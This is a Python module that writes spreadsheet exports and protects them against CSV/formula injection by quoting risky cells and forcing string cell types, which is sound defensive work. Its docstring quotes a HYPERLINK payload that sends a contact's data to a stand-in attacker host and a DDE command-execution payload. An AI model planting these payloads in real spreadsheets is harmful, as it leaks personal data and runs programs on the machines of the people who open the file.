"""CSV and XLSX files that hold data, never formulas: every export of the platform writes its
spreadsheets here.

Why: OWASP's "CSV Injection" (also called formula injection). A text that a respondent, a contact
upload, a regional officer or a mail server gave us can start with "=", "+", "-" or "@". A
spreadsheet program opening the export runs such a cell as a formula, on the machine of the
officer or analyst who opened it: `=HYPERLINK("http://evil.example/?leak="&B2, "Klikk her")` sends
the cell next to it (a contact's e-mail or phone) to another site when clicked, and
`+cmd|' /C calc'!A0` asks Excel to start a program through DDE. So:

- XLSX: every text is a string cell. openpyxl makes a text that starts with "=" a formula cell (and
  "#N/A" an error cell) unless the cell's type is forced to "s", in write-only workbooks as well;
  `xlsx_row` does that for every str, so no `<f>` element is written. Numbers, dates and booleans
  keep their types. XML cannot hold a carriage return (a reader turns it into a line feed, which is
  also what Excel uses for a line break in a cell) nor most other control characters (openpyxl
  refuses them, so one pasted vertical tab would fail the whole file): `xlsx_text` writes "\\r\\n"
  and "\\r" as "\\n", a vertical tab or form feed (Word's line and page breaks) as "\\n", and any
  other character XML 1.0 forbids as U+FFFD, so the cell shows that something was there.
- CSV: a text that starts with "=", "+", "-", "@", a tab or a carriage return gets a leading single
  quote, as OWASP recommends; spreadsheet programs show it as text, and a reader of the file sees
  the quote and the original text after it. The csv module quotes cells holding the separator, a
  quote or a line break. Only text is changed: a number stays a number (-9 is written as -9).
- SPSS .sav (surveys/analytics/exports.py): SPSS reads string variables as data and has no
  formulas, so their text is written as it is.

`csv_bytes` and `xlsx_bytes` write whole files; `csv_row` and `xlsx_row` make one row safe for a
writer of one's own.
"""

import csv
import io
import re
from collections.abc import Iterable, Mapping

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# OWASP's list: what makes Excel, LibreOffice or Google Sheets read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# XML 1.0 allows tab, line feed, carriage return and everything from U+0020 except the surrogates
# and U+FFFE/U+FFFF; lone surrogates cannot reach us (not UTF-8, so not in a request or PostgreSQL).
_LINE_BREAKS = re.compile("\r\n?|[\x0b\x0c]")
_NOT_IN_XML = re.compile("[\x00-\x08\x0e-\x1f\ufffe\uffff]")


def csv_cell(value: object) -> object:
    """The value as a CSV cell: a text a spreadsheet would run as a formula gets a leading quote."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(value) for value in values]


def csv_bytes(rows: Iterable[Iterable[object]], *, delimiter: str = ",") -> bytes:
    """The rows as CSV in UTF-8 with a byte-order mark (Excel detects the encoding only with it)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    for row in rows:
        writer.writerow(csv_row(row))
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def xlsx_text(text: str) -> str:
    """The text as an XLSX cell can hold it: line breaks as "\\n", characters XML forbids as U+FFFD."""
    return _NOT_IN_XML.sub("\ufffd", _LINE_BREAKS.sub("\n", text))


def xlsx_cell(sheet: Worksheet | WriteOnlyWorksheet, value: object) -> object:
    """The value for `sheet.append`: a text becomes a string cell (never a formula or an error
    value), an empty text no cell; anything else is left to openpyxl, which keeps numbers, dates
    and booleans."""
    if not isinstance(value, str):
        return value
    if not value:
        return None
    # `sheet.append` places the cell; row and column 1 until then, as openpyxl's WriteOnlyCell has.
    cell = Cell(sheet, row=1, column=1, value=xlsx_text(value))
    cell.data_type = "s"
    return cell


def xlsx_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[object]) -> list[object]:
    return [xlsx_cell(sheet, value) for value in values]


def xlsx_bytes(sheets: Mapping[str, Iterable[Iterable[object]]]) -> bytes:
    """A workbook with one sheet per title, in order, written row by row (write-only: the rows are
    not all kept in memory as cells)."""
    workbook = Workbook(write_only=True)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(xlsx_row(sheet, row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
